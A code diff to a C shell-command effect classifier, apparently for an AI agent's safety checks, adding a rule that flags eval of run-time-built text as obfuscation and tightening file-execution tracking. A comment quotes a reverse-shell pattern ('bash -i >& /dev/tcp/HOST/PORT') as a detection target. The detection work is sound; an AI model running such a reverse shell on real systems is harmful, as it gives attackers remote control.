@@ -1,4 +1,4 @@
-/* Effect classifier: the entry point, the rules that join commands, permissions and risk. */
+/* Effect classifier for shell commands: each simple command in turn, then the rules that join them. */
 #define _GNU_SOURCE
 #include <errno.h>
 #include <stdio.h>
@@ -7,6 +7,7 @@
 
 #include "agent.h"
 #include "effects-internal.h"
+#include "utf8.h"
 #include "util.h"
 
 int
@@ -42,6 +43,8 @@ list_push(struct classify *c, char ***v, size_t *n, char *s, bool unique)
 		effects_oom(c);
 		return;
 	}
+	/* UTF-8 for replies and the audit log, before comparing (see effects_path_record). */
+	utf8_sanitize(s);
 	for (size_t i = 0; unique && i < *n; i++)
 		if (strcmp((*v)[i], s) == 0) {
 			free(s);
@@ -290,6 +293,17 @@ unknown_program(struct cmd_ctx *x)
 	}
 }
 
+/* Whether a substitution makes the program of the command at index. */
+static bool
+has_code_child(const struct shell_parse *sp, size_t index)
+{
+	for (size_t j = index + 1; j < sp->n_commands; j++)
+		if (sp->commands[j].parent == index && sp->commands[j].parent_arg == 0 &&
+		    sp->commands[j].origin == SHELL_ORIGIN_SUBST)
+			return true;
+	return false;
+}
+
 static void
 classify_command(struct classify *c, struct shell_state *st, size_t i)
 {
@@ -338,17 +352,13 @@ classify_command(struct classify *c, struct shell_state *st, size_t i)
 	}
 	if (cmd->argc > 0 && !(cmd->flags & SHELL_CMD_KEYWORD) &&
 	    !(cmd->argv_flags[0] & (SHELL_WORD_VARIABLE | SHELL_WORD_SUBST | SHELL_WORD_PROCSUBST))) {
-		char buf[64];
-
 		list_push(c, &c->out->programs, &c->out->n_programs,
-			  effects_strdup(c, effects_canonical(shell_basename(cmd->argv[0]), buf,
-							      sizeof buf)),
-			  true);
+			  effects_strdup(c, shell_basename(cmd->argv[0])), true);
 		effects_program(&x);
-		if (strchr(cmd->argv[0], '/') != NULL)
+		/* ./tool, bash i.sh: a file run here, perhaps one fetched or decoded just before. */
+		if (!x.remote && strchr(cmd->argv[0], '/') != NULL)
 			runs_file(&x, cmd->argv[0]);
-		if (x.code_arg != SHELL_NONE && x.code_arg < x.argc && x.code_arg > 0 &&
-		    !(x.flags[x.code_arg] & SHELL_WORD_QUOTED && !(x.flags[x.code_arg] & SHELL_WORD_SUBST)))
+		if (!x.remote && x.code_arg != SHELL_NONE && x.code_arg < x.argc)
 			runs_file(&x, x.argv[x.code_arg]);
 		if (x.code_arg != SHELL_NONE)
 			st->code_arg[i] = (size_t)(x.argv - cmd->argv) + x.code_arg;
@@ -357,6 +367,11 @@ classify_command(struct classify *c, struct shell_state *st, size_t i)
 		if (x.prog == NULL)
 			unknown_program(&x);
 	}
+	/* eval "$X" with X=$(...): text made at run time, run as code, and nothing to read of it. */
+	if (cmd->argc > 0 && (cmd->argv_flags[0] & SHELL_WORD_SUBST) &&
+	    (cmd->origin == SHELL_ORIGIN_EVAL || cmd->origin == SHELL_ORIGIN_SHELL_C ||
+	     cmd->origin == SHELL_ORIGIN_STDIN) && !has_code_child(st->sp, i))
+		effects_add(&x, EFFECT_OBFUSCATION);
 	/* bash -i >& /dev/tcp/HOST/PORT: a shell whose input is a connection. */
 	if ((x.traits & T_RAW_SOCKET) && (x.traits & T_CODE_RUNNER))
 		effects_add(&x, EFFECT_DOWNLOAD_EXEC);
